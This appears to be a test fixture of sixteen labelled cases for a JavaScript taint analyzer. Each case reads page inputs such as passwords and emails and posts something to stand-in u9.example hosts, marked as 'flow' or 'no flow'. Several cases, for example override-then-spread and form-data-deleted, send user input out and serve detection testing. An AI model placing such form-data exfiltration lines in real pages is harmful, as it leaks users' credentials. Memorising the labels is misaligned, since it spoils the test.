//# redacted-before-send
// no flow
function redact1(o) { o.password = '[redacted]'; return o; }
const form1 = { password: document.querySelector('input[type=password]').value, page: 'login' };
fetch('https://rbs.u9.example/', { method: 'POST', body: JSON.stringify(redact1(form1)) });

//# spread-then-override
// no flow
const body2 = { pw: document.querySelector('input[type=password]').value, n: 1 };
fetch('https://sto.u9.example/', { method: 'POST', body: JSON.stringify({ ...body2, pw: undefined }) });

//# override-then-spread
// flow: password > ots.u9.example via fetch
// why: the later spread brings it back
const body3 = { pw: document.querySelector('input[type=password]').value, n: 1 };
fetch('https://ots.u9.example/', { method: 'POST', body: JSON.stringify({ pw: undefined, ...body3 }) });

//# reassigned-in-finally
// no flow
let v4 = document.querySelector('input[type=password]').value;
try { console.log(v4.length); } finally { v4 = null; }
fetch('https://rif.u9.example/', { method: 'POST', body: JSON.stringify({ v4 }) });

//# list-emptied-by-length
// no flow
const list5 = [document.querySelector('input[type=email]').value];
list5.length = 0;
list5.push('start');
fetch('https://lel.u9.example/', { method: 'POST', body: JSON.stringify(list5) });

//# list-emptied-by-splice
// no flow
const list6 = [];
list6.push(document.querySelector('input[type=email]').value);
list6.splice(0, list6.length);
fetch('https://les.u9.example/', { method: 'POST', body: list6.join() });

//# map-entry-overwritten
// no flow
const m7 = new Map();
m7.set('pw', document.querySelector('input[type=password]').value);
m7.set('pw', '***');
fetch('https://meo.u9.example/', { method: 'POST', body: JSON.stringify([...m7]) });

//# query-param-deleted
// no flow
const u8 = new URL('https://qpd.u9.example/s');
u8.searchParams.set('mail', document.querySelector('input[type=email]').value);
u8.searchParams.delete('mail');
navigator.sendBeacon(u8);

//# form-data-deleted
// flow: input > fdd.u9.example via fetch
// why: the password is taken out, the form's other fields stay
const fd9 = new FormData(document.querySelector('form'));
fd9.delete('password');
fetch('https://fdd.u9.example/', { method: 'POST', body: fd9 });

//# omit-helper
// no flow
function omit10(obj, ...names) {
  const copy = Object.assign({}, obj);
  names.forEach((n) => delete copy[n]);
  return copy;
}
const o10 = { password: document.querySelector('input[type=password]').value, lang: 'de' };
fetch('https://omi.u9.example/', { method: 'POST', body: JSON.stringify(omit10(o10, 'password')) });

//# pick-helper
// flow: email > pic.u9.example via fetch
// why: near miss: only the named entries are taken over
const pick11 = (obj, keys) => keys.reduce((acc, k) => { acc[k] = obj[k]; return acc; }, {});
const all11 = { email: document.querySelector('input[type=email]').value, password: document.querySelector('input[type=password]').value };
fetch('https://pic.u9.example/', { method: 'POST', body: JSON.stringify(pick11(all11, ['email'])) });

//# json-replacer
// no flow
const o12 = { password: document.querySelector('input[type=password]').value, step: 2 };
fetch('https://jrp.u9.example/', { method: 'POST', body: JSON.stringify(o12, (k, v) => (k === 'password' ? undefined : v)) });

//# json-allowlist
// no flow
const o13 = { password: document.querySelector('input[type=password]').value, step: 2 };
fetch('https://jal.u9.example/', { method: 'POST', body: JSON.stringify(o13, ['step']) });

//# replaced-in-closure-before-call
// no flow
let note14 = document.querySelector('textarea[name=message]').value;
const flush14 = () => fetch('https://ric.u9.example/', { method: 'POST', body: note14 });
note14 = '';
flush14();

//# filter-drops-entry
// no flow
const entries15 = Object.entries({ pw: document.querySelector('input[type=password]').value, v: '1' }).filter(([k]) => k !== 'pw');
fetch('https://fde.u9.example/?' + new URLSearchParams(entries15));

//# class-field-cleared-in-method
// no flow
class Wizard16 {
  answers = {};
  take() { this.answers.mail = document.querySelector('input[type=email]').value; }
  clear() { this.answers = {}; }
  send() { navigator.sendBeacon('https://cfc.u9.example/', JSON.stringify(this.answers)); }
}
const w16 = new Wizard16();
w16.take();
w16.clear();
w16.send();
